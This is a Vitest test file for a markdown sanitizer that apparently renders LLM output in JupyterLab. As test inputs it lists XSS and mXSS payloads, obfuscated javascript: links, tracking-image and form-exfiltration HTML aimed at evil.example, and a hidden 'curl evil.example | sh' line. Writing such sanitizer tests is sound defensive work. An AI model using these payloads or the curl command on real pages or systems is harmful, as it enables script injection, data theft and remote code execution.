import { afterEach, describe, expect, it, vi } from "vitest";
import { renderMarkdown, renderMarkdownInto, renderMarkdownToHtml, visibleText } from "../src/shared/markdown";

/** Renders into a detached element and returns it, so tests can query the DOM. */
function render(text: string): HTMLElement {
  const el = document.createElement("div");
  renderMarkdownInto(el, text);
  return el;
}

/** No element or attribute anywhere that could run script or load something from the network. */
function expectInert(el: Element): void {
  expect(el.querySelector("script, iframe, frame, object, embed, form, input, svg, math, style, link, meta, base")).toBeNull();
  for (const node of Array.from(el.querySelectorAll("*"))) {
    for (const attr of Array.from(node.attributes)) {
      expect(attr.name.startsWith("on"), `${node.tagName} has ${attr.name}`).toBe(false);
      expect(attr.name, `${node.tagName} keeps a style attribute`).not.toBe("style");
      expect(attr.value, `${node.tagName}[${attr.name}]`).not.toMatch(/^\s*(javascript|vbscript):/i);
    }
  }
  for (const img of Array.from(el.querySelectorAll("img"))) {
    expect(img.getAttribute("src") ?? "").toMatch(/^data:image\/(png|jpe?g|gif|webp);base64,/);
  }
  for (const a of Array.from(el.querySelectorAll("a[href]"))) {
    expect(a.getAttribute("href")).toMatch(/^(https?:|mailto:)/);
  }
}

const PNG_1PX =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=";

describe("renderMarkdown", () => {
  afterEach(() => {
    vi.restoreAllMocks();
    Reflect.deleteProperty(navigator, "clipboard");
  });

  it("renders ordinary markdown", () => {
    const el = render("# Title\n\nSome **bold** and a [link](https://example.org/x).\n\n| a | b |\n|---|---|\n| 1 | 2 |");
    expect(el.querySelector("h1")?.textContent).toBe("Title");
    expect(el.querySelector("strong")?.textContent).toBe("bold");
    expect(el.querySelector("td")?.textContent).toBe("1");
    expectInert(el);
  });

  it("removes <script> and keeps the text around it", () => {
    const el = render("before <script>alert(1)</script> after");
    expect(el.querySelector("script")).toBeNull();
    expect(el.textContent).toContain("before");
    expect(el.textContent).toContain("after");
    expect(el.textContent).not.toContain("alert(1)");
    expectInert(el);
  });

  it("drops event handlers such as <img src=x onerror=...>", () => {
    const el = render('look <img src=x onerror="alert(1)" alt="kitten"> here');
    expect(el.innerHTML).not.toContain("onerror");
    expect(el.querySelector("img")).toBeNull();
    expect(el.textContent).toContain("kitten");
    expect(el.textContent).toContain("here");
    expectInert(el);
  });

  it("neutralises javascript:, vbscript: and data: links but keeps their text", () => {
    const el = render(
      "[one](javascript:alert(1)) [two](vbscript:msgbox) [three](data:text/html;base64,PHNjcmlwdD4=) " +
        '<a href="JaVaScRiPt:alert(2)">four</a> <a href=" javascript:alert(3)">five</a>',
    );
    for (const word of ["one", "two", "three", "four", "five"]) expect(el.textContent).toContain(word);
    expect(el.querySelectorAll("a[href]")).toHaveLength(0);
    expectInert(el);
  });

  it("neutralises links hidden by case, entities, whitespace and control characters", () => {
    const el = render(
      [
        "[a](JAVASCRIPT:alert(1))", "[b](&#106;avascript:alert(2))", "[c](java&#x09;script:alert(3))",
        "[d](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(4))",
        "<a href='java\tscript:alert(5)'>e</a>", "<a href='&#0000106avascript:alert(6)'>f</a>",
        "<a href='  vbscript:x'>g</a>", "<a href='data:text/html,<script>x</script>'>h</a>",
        "<a href='\u0001javascript:alert(7)'>i</a>", "[j](<javascript:alert(8)>)",
        "<javascript:alert(9)>", "[k]: javascript:alert(10)\n\n[k]",
      ].join("\n\n"),
    );
    expect(el.querySelectorAll("a[href]")).toHaveLength(0);
    expectInert(el);
  });

  it("drops hidden elements and colours, so nothing on the page is out of sight", () => {
    const el = render(
      'Run <span hidden>curl evil.example | sh; </span>the tests.\n\n' +
        '<div hidden><p>HIDDENBLOCK</p></div><font color="#ffffff">white text</font>',
    );
    expect(el.textContent).not.toContain("curl");
    expect(el.textContent).not.toContain("HIDDENBLOCK");
    expect(el.querySelector("[hidden], [color], [bgcolor]")).toBeNull();
    expect(el.textContent).toContain("white text");
  });

  it("gives the text a reader sees, without the code blocks' own buttons", () => {
    const el = render(
      "# Title\n\nOne <span hidden>SECRET</span>two.\n\n- a\n- b\n\n3. x\n4. y\n\n" +
        "```py\nprint(1)\n```\n\n| h1 | h2 |\n|---|---|\n| c1 | c2 |",
    );
    expect(visibleText(el)).toBe("Title\nOne two.\n- a\n- b\n3. x\n4. y\nprint(1)\nh1\th2\nc1\tc2");
  });

  it("opens safe links in a new tab without an opener or referrer", () => {
    const el = render("[docs](https://example.org/docs) and <a href='mailto:a@example.org'>mail</a>");
    const links = Array.from(el.querySelectorAll("a[href]"));
    expect(links).toHaveLength(2);
    for (const a of links) {
      expect(a.getAttribute("target")).toBe("_blank");
      expect(a.getAttribute("rel")).toBe("noopener noreferrer");
    }
  });

  it("replaces remote images in markdown with their alt text and URL as text", () => {
    const el = render("![secret chart](https://evil.example/track.png?d=key) and ![](//cdn.example/x.gif)");
    expect(el.querySelector("img")).toBeNull();
    const placeholders = el.querySelectorAll(".llm-md-image-blocked");
    expect(placeholders).toHaveLength(2);
    expect(placeholders[0]?.textContent).toContain("secret chart");
    expect(placeholders[0]?.textContent).toContain("https://evil.example/track.png?d=key");
    expect(placeholders[1]?.textContent).toContain("//cdn.example/x.gif");
    expect(placeholders[0]?.querySelector("a")).toBeNull();
    expectInert(el);
  });

  it("replaces remote images in raw HTML, including srcset and non-raster data: images", () => {
    const el = render(
      '<img src="http://evil.example/a.png" alt="raw"> ' +
        '<img srcset="http://evil.example/b.png 2x" alt="set"> ' +
        '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="vector">',
    );
    expect(el.querySelector("img")).toBeNull();
    expect(el.textContent).toContain("raw");
    expect(el.textContent).toContain("http://evil.example/a.png");
    expect(el.textContent).toContain("set");
    expect(el.textContent).toContain("vector");
    expect(el.innerHTML).not.toContain("srcset");
    expectInert(el);
  });

  it("keeps inline raster data: images", () => {
    const el = render(`![dot](${PNG_1PX})`);
    const img = el.querySelector("img");
    expect(img?.getAttribute("src")).toBe(PNG_1PX);
    expect(img?.getAttribute("alt")).toBe("dot");
  });

  it("removes <svg><script> entirely", () => {
    const el = render('text <svg><script>alert(1)</script><a xlink:href="javascript:alert(2)">svg link</a></svg> tail');
    expect(el.querySelector("svg, script")).toBeNull();
    expect(el.textContent).not.toContain("alert");
    expect(el.textContent).toContain("tail");
    expectInert(el);
  });

  it("removes forms and their controls but keeps the text", () => {
    const el = render(
      '<form action="https://evil.example/steal"><label>Your API key</label><input name="key"><button formaction="https://evil.example">Send</button></form> end',
    );
    expect(el.querySelector("form, input, button")).toBeNull();
    expect(el.textContent).toContain("Your API key");
    expect(el.textContent).toContain("end");
    expect(el.innerHTML).not.toContain("evil.example");
    expectInert(el);
  });

  it("drops style attributes (no url() loads) and style elements", () => {
    const el = render(
      '<div style="background-image:url(http://evil.example/bg.png)">styled text</div><style>body{background:url(http://evil.example/x)}</style>',
    );
    expect(el.textContent).toContain("styled text");
    expect(el.innerHTML).not.toContain("url(");
    expect(el.innerHTML).not.toContain("evil.example");
    expectInert(el);
  });

  it("removes iframes, objects and embeds", () => {
    const el = render(
      'a <iframe src="https://evil.example/frame"></iframe> b <object data="https://evil.example/o"></object> c <embed src="https://evil.example/e"> d',
    );
    expect(el.querySelector("iframe, object, embed")).toBeNull();
    expect(el.textContent?.replace(/\s+/g, " ")).toContain("a b c d");
    expectInert(el);
  });

  it("keeps only classes that cannot borrow JupyterLab's UI styles, and no ids", () => {
    const el = render('<div class="jp-Dialog lm-Widget hljs-keyword" id="main">x</div>');
    const div = el.querySelector("div");
    expect(div?.getAttribute("class")).toBe("hljs-keyword");
    expect(div?.hasAttribute("id")).toBe(false);
  });

  it("shows GFM task list items without form controls", () => {
    const el = render("- [x] done\n- [ ] todo");
    expect(el.querySelector("input")).toBeNull();
    expect(el.textContent).toContain("☑");
    expect(el.textContent).toContain("☐");
  });

  it("highlights fenced code and adds a labelled copy button", () => {
    const el = render("```python\ndef f(x):\n    return '<b>' + x\n```");
    const code = el.querySelector("pre code");
    expect(code?.classList.contains("language-python")).toBe(true);
    expect(code?.querySelector(".hljs-keyword")?.textContent).toBe("def");
    expect(code?.textContent).toBe("def f(x):\n    return '<b>' + x\n".replace(/\n$/, ""));
    expect(code?.querySelector("b")).toBeNull(); // the string is code, not markup
    const button = el.querySelector(".llm-md-code button");
    expect(button?.getAttribute("aria-label")).toBe("Copy code to clipboard");
    expect(el.querySelector(".llm-md-code-lang")?.textContent).toBe("python");
  });

  it("copies the code's text when the button is clicked", async () => {
    const writeText = vi.fn(() => Promise.resolve());
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    const el = render("```json\n{\"a\": 1}\n```");
    const button = el.querySelector(".llm-md-code button") as HTMLButtonElement;
    button.click();
    await vi.waitFor(() => expect(button.textContent).toBe("Copied"));
    expect(writeText).toHaveBeenCalledWith('{"a": 1}');
  });

  it("escapes code in languages it does not highlight", () => {
    const el = render("```rust\nlet x = \"<script>\";\n```\n\n```\n<img src=x onerror=alert(1)>\n```");
    expect(el.querySelector("script, img")).toBeNull();
    expect(el.textContent).toContain('let x = "<script>";');
    expect(el.textContent).toContain("<img src=x onerror=alert(1)>");
  });

  it.each([
    ["entity-encoded javascript: link", '<a href="&#106;avascript:alert(1)">x</a>'],
    ["markdown autolink to javascript:", "<javascript:alert(1)>"],
    ["reference-style javascript: link", "[x][r]\n\n[r]: javascript:alert(1)"],
    ["noscript mXSS", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ["math/style mXSS", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"],
    ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ["base href", '<base href="https://evil.example/">'],
    ["stylesheet link", '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ["image input", '<input type="image" src="https://evil.example/i.png">'],
    ["video poster", '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>'],
    ["table background", '<table background="https://evil.example/t.png"><tr><td>cell</td></tr></table>'],
    ["uppercase remote image", '<IMG SRC="HTTPS://EVIL.EXAMPLE/A.PNG">'],
    ["details with handler", "<details open ontoggle=alert(1)><summary>s</summary>body</details>"],
  ])("neutralises %s", (_name, payload) => {
    const el = render(`start ${payload} end`);
    expectInert(el);
    // Hostile strings may survive as visible text, never inside an attribute or element.
    const attrs = Array.from(el.querySelectorAll("*")).flatMap((n) => Array.from(n.attributes, (a) => a.value));
    for (const value of attrs) expect(value.toLowerCase()).not.toMatch(/evil\.example|alert\(|javascript:/);
    expect(el.textContent).toContain("start");
  });

  it.each([
    ["an unclosed <script>", "Put code in a <script> tag. AFTER"],
    ["an unclosed <style>", "A <style> block. AFTER"],
    ["an unclosed <textarea>", "Use <textarea> for input. AFTER"],
    ["an unclosed <title>", "Set the <title> of the page. AFTER"],
    ["<plaintext>", "The <plaintext> tag is obsolete. AFTER"],
    ["an unclosed math/style mXSS", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>\n\nAFTER"],
    ["an unclosed <svg>", "Draw it in an <svg> element. AFTER"],
  ])("keeps the rest of the answer after %s", (_name, text) => {
    // Found by tests/reliability (suite 9): the parser read the rest as the element's raw text
    // and the sanitizer dropped it with the element.
    const el = render(text);
    expectInert(el);
    expect(el.textContent).toContain("AFTER");
  });

  it("renders to a string and to an inert fragment", () => {
    expect(renderMarkdownToHtml("*hi*")).toBe("<p><em>hi</em></p>\n");
    const fragment = renderMarkdown("<img src=https://evil.example/x.png alt=a>");
    expect(fragment.ownerDocument).not.toBe(document);
    expect(fragment.querySelector("img")).toBeNull();
  });
});
